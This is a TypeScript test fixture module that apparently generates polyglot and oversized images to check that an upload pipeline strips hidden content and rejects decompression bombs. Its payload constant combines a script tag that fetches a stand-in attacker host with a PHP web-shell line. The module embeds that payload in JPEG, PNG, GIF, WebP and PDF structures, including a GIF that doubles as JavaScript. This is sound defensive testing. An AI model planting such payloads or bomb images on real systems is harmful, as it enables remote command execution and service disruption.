import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { paint } from './pictures.ts'
import { zipOf } from './zip.ts'

/** Text that must not be in a stored picture. */
export const payload = '<script>fetch("https://evil.example/")</script><?php system($_GET[0]); ?>'

const small = { width: 40, height: 30 }

export function jpeg(): Promise<Buffer> {
  return paint(small).jpeg().toBuffer()
}

/** Returns pictures with other content in or after them, by file name. */
export async function polyglots(): Promise<Record<string, Buffer>> {
  const photo = await jpeg()
  const picture = await paint(small).png().toBuffer()
  const moving = await paint(small).gif().toBuffer()
  return {
    'zip-behind.jpg': Buffer.concat([photo, zipOf(payload), Buffer.from(payload)]),
    'comment.jpg': Buffer.concat([photo.subarray(0, 2), jpegSegment(0xfe, payload), photo.subarray(2)]),
    'exif.jpg': Buffer.concat([photo.subarray(0, 2), jpegSegment(0xe1, `Exif\0\0${payload}`), photo.subarray(2)]),
    'pdf-within.jpg': Buffer.concat([
      photo.subarray(0, 2),
      jpegSegment(0xfe, `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(${payload})>>>>endobj`),
      photo.subarray(2),
    ]),
    'text-chunk.png': withChunk(picture, pngChunk('tEXt', Buffer.from(`Comment\0${payload}`))),
    'own-chunk.png': withChunk(picture, pngChunk('phPa', Buffer.from(payload))),
    'page-behind.png': Buffer.concat([picture, Buffer.from(`<html>${payload}</html>`)]),
    'comment.gif': withGifComment(moving, payload),
    'script.gif': scriptGif(),
    'xmp.webp': await paint(small)
      .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${payload.replaceAll(/[<?]/g, '_')}</x:xmpmeta>`)
      .webp()
      .toBuffer(),
  }
}

function jpegSegment(marker: number, text: string): Buffer {
  const data = Buffer.from(text, 'latin1')
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(data.length + 2, 2)
  return Buffer.concat([head, data])
}

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

/** Inserts a chunk after the header chunk, which is always the first. */
function withChunk(png: Buffer, chunk: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, 33), chunk, png.subarray(33)])
}

/** Inserts a comment after the colour table, which follows the header. */
function withGifComment(gif: Buffer, text: string): Buffer {
  const [flags = 0] = gif.subarray(10)
  const end = 13 + (flags & 0x80 ? 3 * 2 ** ((flags & 7) + 1) : 0)
  const comment = Buffer.from(text, 'latin1')
  const block = Buffer.concat([Buffer.from([0x21, 0xfe, comment.length]), comment, Buffer.from([0])])
  return Buffer.concat([gif.subarray(0, end), block, gif.subarray(end)])
}

/** Returns a GIF that is also a script: the bytes of its width begin a JavaScript comment. */
function scriptGif(): Buffer {
  const head = Buffer.concat([Buffer.from('GIF89a/*'), Buffer.from([1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255])])
  return Buffer.concat([head, gifFrame(), Buffer.from(`;*/=1;${payload}`)])
}

/** Returns a frame of one pixel. */
function gifFrame(): Buffer {
  return Buffer.from([0x21, 0xf9, 4, 0, 1, 0, 0, 0, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0])
}

export function movingGif(frames: number): Buffer {
  const head = Buffer.concat([Buffer.from('GIF89a'), Buffer.from([9, 0, 7, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255])])
  return Buffer.concat([head, ...Array<Buffer>(frames).fill(gifFrame()), Buffer.from(';')])
}

/** Returns a GIF of the largest possible size, with a frame of that size or of one pixel. */
export function hugeGif(isFilled: boolean): Buffer {
  const head = Buffer.from('GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff', 'latin1')
  const frame = gifFrame()
  if (isFilled) frame.fill(0xff, 13, 17)
  return Buffer.concat([head, frame, Buffer.from(';')])
}

/** Returns a PNG of one bit a pixel that declares a size but contains only a number of rows. */
export function hugePng(width: number, height: number, rows: number): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width)
  head.writeUInt32BE(height, 4)
  head[8] = 1
  const data = deflateSync(Buffer.alloc(rows * (Math.ceil(width / 8) + 1)), { level: 9 })
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([signature, pngChunk('IHDR', head), pngChunk('IDAT', data), pngChunk('IEND', Buffer.alloc(0))])
}

/** Returns a WebP that declares the largest possible size, 16,383 by 16,383. */
export async function hugeWebp(): Promise<Buffer> {
  const webp = await paint(small).webp({ lossless: true }).toBuffer()
  // The signature of lossless data is followed by width and height, each less one, in 14 bits.
  const at = webp.indexOf('VP8L') + 9
  webp.writeUInt32LE((0x0fffbffe | (webp.readUInt32LE(at) & 0xf0000000)) >>> 0, at)
  return webp
}

/** Returns an AVIF that declares a width and height. */
export async function hugeAvif(side: number): Promise<Buffer> {
  const avif = await paint(small).avif({ effort: 0 }).toBuffer()
  const at = avif.indexOf('ispe')
  avif.writeUInt32BE(side, at + 8)
  avif.writeUInt32BE(side, at + 12)
  return avif
}

export async function movingWebp(frames: number): Promise<Buffer> {
  const height = 30
  const raw = Buffer.alloc(40 * height * frames * 3, 1)
  for (let frame = 0; frame < frames; frame++) raw.fill(frame, frame * 40 * height * 3, (frame + 1) * 40 * height * 3)
  return sharp(raw, { raw: { width: 40, height: height * frames, channels: 3, pageHeight: height } })
    .webp({ effort: 0 })
    .toBuffer()
}
